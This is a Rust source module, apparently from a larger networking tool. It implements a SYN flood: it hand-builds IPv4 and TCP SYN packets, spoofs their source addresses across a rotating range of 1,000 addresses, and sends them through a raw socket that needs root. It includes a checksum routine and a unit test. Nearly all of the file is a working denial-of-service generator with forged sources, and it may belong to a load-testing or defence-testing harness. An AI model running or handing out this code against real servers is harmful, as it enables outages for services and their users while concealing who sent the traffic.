//! SYN packets from addresses that answer nothing.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};

use anyhow::{Context, bail};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

/// Addresses that packets come from in turn.
const ADDRESSES: u32 = 1_000;

const IP_BYTES: usize = 20;
const TCP_BYTES: usize = 20;

/// Sends SYN packets.
pub(super) struct SynFlood {
    socket: Socket,
    server: SocketAddr,
    to: Ipv4Addr,
    first: Ipv4Addr,
    sent: u32,
}

impl SynFlood {
    /// Opens a raw socket, which needs root.
    ///
    /// # Errors
    /// When it may not.
    pub(super) fn open(server: SocketAddr, first: Ipv4Addr) -> anyhow::Result<Self> {
        let IpAddr::V4(to) = server.ip() else { bail!("SYN packets are sent over IPv4") };
        let socket = Socket::new(Domain::IPV4, Type::from(RAW), Some(Protocol::from(OWN_HEADERS)))
            .context("a raw socket needs root")?;
        Ok(SynFlood { socket, server, to, first, sent: 0 })
    }

    /// Sends the next packet. Returns whether the kernel took it.
    pub(super) fn send(&mut self) -> bool {
        let number = self.sent;
        self.sent = number.wrapping_add(1);
        let from = Ipv4Addr::from_bits(self.first.to_bits().wrapping_add(number % ADDRESSES));
        let port = u16::try_from(1_024 + number / ADDRESSES % 60_000).unwrap_or(1_024);
        let packet = syn(from, port, self.to, self.server.port(), number);
        self.socket.send_to(&packet, &SockAddr::from(self.server)).is_ok()
    }
}

/// The kind of raw sockets, which `socket2` names only with more features.
const RAW: i32 = 3;

/// The protocol of raw sockets whose packets have their own headers.
const OWN_HEADERS: i32 = 255;

/// A SYN packet with its headers.
fn syn(from: Ipv4Addr, from_port: u16, to: Ipv4Addr, to_port: u16, sequence: u32) -> Vec<u8> {
    let mut tcp = Vec::with_capacity(TCP_BYTES);
    tcp.extend_from_slice(&from_port.to_be_bytes());
    tcp.extend_from_slice(&to_port.to_be_bytes());
    tcp.extend_from_slice(&sequence.to_be_bytes());
    tcp.extend_from_slice(&[0, 0, 0, 0, 5 << 4, 2]);
    tcp.extend_from_slice(&64_240_u16.to_be_bytes());
    tcp.extend_from_slice(&[0, 0, 0, 0]);
    let mut summed = Vec::with_capacity(12 + TCP_BYTES);
    summed.extend_from_slice(&from.octets());
    summed.extend_from_slice(&to.octets());
    summed.extend_from_slice(&[0, 6, 0, 20]);
    summed.extend_from_slice(&tcp);
    let sum = checksum(&summed).to_be_bytes();
    tcp.splice(16..18, sum);
    let mut packet = Vec::with_capacity(IP_BYTES + TCP_BYTES);
    // The kernel fills in the length, the identification and the checksum of this header.
    packet.extend_from_slice(&[0x45, 0, 0, 40, 0, 0, 0, 0, 64, 6, 0, 0]);
    packet.extend_from_slice(&from.octets());
    packet.extend_from_slice(&to.octets());
    packet.extend_from_slice(&tcp);
    packet
}

/// The sum of RFC 1071.
fn checksum(bytes: &[u8]) -> u16 {
    let words = bytes.chunks(2).map(|pair| match pair {
        [high, low] => u32::from(u16::from_be_bytes([*high, *low])),
        [high] => u32::from(u16::from_be_bytes([*high, 0])),
        _ => 0,
    });
    let mut sum: u32 = words.sum();
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).unwrap_or(u16::MAX)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_packet_has_both_headers_and_a_sum_that_fits() {
        let (from, to) = (Ipv4Addr::new(10, 77, 65, 1), Ipv4Addr::new(10, 77, 0, 1));
        let packet = syn(from, 1_024, to, 443, 7);
        assert_eq!(packet.len(), IP_BYTES + TCP_BYTES);
        let (ip, tcp) = packet.split_at(IP_BYTES);
        assert_eq!((ip[9], tcp[13]), (6, 2), "TCP, SYN");
        let summed = [&from.octets()[..], &to.octets()[..], &[0, 6, 0, 20], tcp].concat();
        assert_eq!(checksum(&summed), 0, "the sum over everything with its sum is zero");
    }
}
